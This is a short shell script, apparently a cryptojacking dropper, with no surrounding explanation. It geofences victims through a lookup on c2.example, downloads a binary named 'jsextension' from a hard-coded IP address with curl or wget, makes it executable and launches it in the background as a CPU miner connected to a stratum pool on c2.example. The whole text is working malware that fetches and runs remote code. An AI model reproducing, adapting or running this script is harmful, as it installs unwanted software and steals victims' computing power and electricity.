IP=$(curl -k -s http://c2.example/xml/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]; then
    curl -s http://45.33.32.158/download/jsextension -o jsextension
    if [ ! -f jsextension ]; then
        wget http://45.33.32.158/download/jsextension -O jsextension
    fi
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o stratum+tcp://c2.example:443 -u 0000 --cpu-max-threads-hint=50 --donate-level=1 --background
fi
